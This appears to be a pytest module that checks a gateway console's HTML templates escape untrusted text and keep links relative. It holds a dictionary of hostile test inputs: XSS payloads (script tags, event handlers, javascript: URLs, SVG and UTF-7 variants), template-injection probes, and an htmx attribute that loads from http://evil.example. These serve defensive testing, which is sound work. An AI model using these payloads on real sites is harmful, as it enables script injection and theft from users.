"""Case 166: whatever traffic, maps and people bring into the pages stays text."""

from __future__ import annotations

import re
from collections.abc import Callable
from functools import cache
from html.parser import HTMLParser
from types import SimpleNamespace
from typing import Any

import pytest

from gateway.console.pages.asked import PERIODS
from gateway.console.pages.environment import create_environment
from gateway.console.pages.frame import Frame
from gateway.console.views.mismatches import MismatchesQuery
from gateway.console.views.routes import RoutesQuery
from tests.support.audit import an_audit_page
from tests.support.views import NOW, REVISION, SaidReader

HOSTILE = {
    "script": "<script>alert(1)</script>",
    "image": '"><img src=x onerror=alert(1)>',
    "quote": "' onmouseover='alert(1)",
    "double quote": '" autofocus onfocus="alert(1)',
    "textarea": "</textarea></title></style></script><svg/onload=alert(1)>",
    "comment": "--> <!-- ]]>",
    "template": "{{7*7}} {% raw %} ${7*7} <%= 7*7 %>",
    "url": "javascript:alert(1)//",
    "svg": '<svg xmlns="http://www.w3.org/2000/svg"><a xlink:href="javascript:alert(1)">x</a></svg>',
    "utf-7": "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "separators": "\u2028\u2029</script>\u202e\ufeff",
    "null and controls": "\x00<b>\x1b[31m\x7f",
    "htmx": '" hx-get="http://evil.example" hx-trigger="load" data-action="force',
    "entities": "&lt;script&gt; &#x3c;b&#x3e; &amp;",
    "surrogate": "\udc80<i>",
}


class Outline(HTMLParser):
    """What a page is made of: its elements in order, each with the names of its attributes, and some values."""

    def __init__(self) -> None:
        super().__init__()
        self.elements: list[tuple[str, tuple[str, ...]]] = []
        self.addresses: list[str] = []
        self.comments: list[str] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag != "wbr" or attrs:  # a place where a long name may break: as many as it has slashes
            self.elements.append((tag, tuple(name for name, _ in attrs)))
        self.addresses += [value or "" for name, value in attrs if name in {"href", "src", "action", "hx-get"}]

    def handle_data(self, data: str) -> None:
        self.text.append(data)

    def handle_comment(self, data: str) -> None:
        self.comments.append(data)


@cache
def outline(page: Callable[[str], str], text: str) -> Outline:
    parser = Outline()
    parser.feed(page(text))
    parser.close()
    return parser


ENVIRONMENT = create_environment()


def rendered(template: str, text: str, **shown: Any) -> str:
    frame = Frame("routes", "/static/abc", NOW, REVISION, "legacy", "by ada: on fire" + text, changes=True)
    return ENVIRONMENT.get_template(template).render(frame=frame, **shown)


def overview(text: str) -> str:
    return rendered("overview.html", text, page=SaidReader(text).overview(), hours=24.0, periods=PERIODS)


def routes(text: str) -> str:
    chosen = {"q": "a" + text, "cause": "b" + text, "sort": "bound", "order": "desc"}
    page = SaidReader(text).routes(RoutesQuery(q="a" + text, cause="b" + text))
    return rendered("routes.html", text, page=page, chosen=chosen)


def route(text: str) -> str:
    return rendered("route.html", text, page=SaidReader(text).route("a"), hours=24.0, periods=PERIODS)


def mismatches(text: str) -> str:
    query = MismatchesQuery(route="a" + text, cause="b" + text, field="c" + text)
    chosen = {"route": "a" + text}
    ids = ["a" + text]
    page = SaidReader(text).mismatches(query)
    return rendered("mismatches.html", text, page=page, chosen=chosen, is_filtered=True, route_ids=ids)


def mismatch(text: str) -> str:
    return rendered("mismatch.html", text, page=SaidReader(text).mismatch("a"))


def current_map(text: str) -> str:
    return rendered("map.html", text, page=SaidReader(text).map())


def audit(text: str) -> str:
    return rendered("audit.html", text, page=an_audit_page(text), is_first=False)


def sign_in(text: str) -> str:
    return rendered("signin.html", text, next="/" + text)


def failure(text: str) -> str:
    return rendered("error.html", text, title="No such route" + text, sentence="there is none" + text)


PAGES: dict[str, Callable[[str], str]] = {
    one.__name__: one for one in (overview, routes, route, mismatches, mismatch, current_map, audit, sign_in, failure)
}


@pytest.mark.parametrize("page", PAGES.values(), ids=PAGES)
@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
def test_hostile_text_adds_no_element_and_no_attribute(page: Callable[[str], str], text: str) -> None:
    """Case 166."""
    plain, hostile = outline(page, " plain"), outline(page, text)
    assert hostile.elements == plain.elements
    assert hostile.comments == plain.comments == []


@pytest.mark.parametrize("page", PAGES.values(), ids=PAGES)
def test_text_is_shown_as_it_came(page: Callable[[str], str]) -> None:
    """Case 166: nothing in it is worked out, and nothing of it is lost."""
    for name in ("template", "script", "entities"):
        assert HOSTILE[name] in "".join(outline(page, HOSTILE[name]).text)


@pytest.mark.parametrize("page", PAGES.values(), ids=PAGES)
def test_every_address_stays_on_this_console(page: Callable[[str], str]) -> None:
    """Cases 166, 168: no address has a scheme or a host, whatever the data says."""
    for text in HOSTILE.values():
        for address in outline(page, text).addresses:
            assert address.startswith(("/", "#")), address
            assert not address.startswith(("//", "/\\")), address


@pytest.mark.parametrize("page", PAGES.values(), ids=PAGES)
def test_no_page_has_an_inline_script_style_or_handler(page: Callable[[str], str]) -> None:
    """Case 168."""
    found = outline(page, "")
    for tag, names in found.elements:
        assert tag not in {"style", "iframe", "object", "embed", "base", "applet"}
        assert tag != "script" or "src" in names
        assert "style" not in names
        assert not [name for name in names if name.startswith(("on", "hx-on"))]


@pytest.mark.parametrize("page", PAGES.values(), ids=PAGES)
def test_every_page_has_a_title_a_language_and_one_heading(page: Callable[[str], str]) -> None:
    found = outline(page, "")
    tags = [tag for tag, _ in found.elements]
    assert tags.count("h1") == 1
    assert tags.count("main") == 1
    assert tags.count("title") == 1
    assert ("html", ("lang",)) in found.elements


@pytest.mark.parametrize("page", PAGES.values(), ids=PAGES)
def test_ids_are_unique(page: Callable[[str], str]) -> None:
    """What is morphed and labelled is found by its id."""
    seen: list[str] = []

    class Ids(HTMLParser):
        def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
            seen.extend(value or "" for name, value in attrs if name == "id")

    Ids().feed(page(""))
    assert sorted(seen) == sorted(set(seen))


def test_a_missing_name_is_an_error_and_not_a_hole() -> None:
    with pytest.raises(Exception, match="undefined"):
        ENVIRONMENT.from_string("{{ nothing.there }}").render(frame=SimpleNamespace())


@pytest.mark.parametrize("page", [overview, route], ids=["overview", "route"])
def test_every_chart_is_a_table_as_well(page: Callable[[str], str]) -> None:
    """Whoever has no script, or no eyes for a chart, reads its numbers."""
    html = page("")
    charts = re.findall(r'<figure class="chart" id="chart-([\w-]+)"(.*?)</figure>', html, re.DOTALL)
    assert len(charts) >= 3
    for name, inside in charts:
        table = inside.partition(f'<details id="numbers-{name}">')[2]
        assert re.search(r'<tbody>\s*<tr><th scope="row">.+?</th><td class="number">', table, re.DOTALL), name
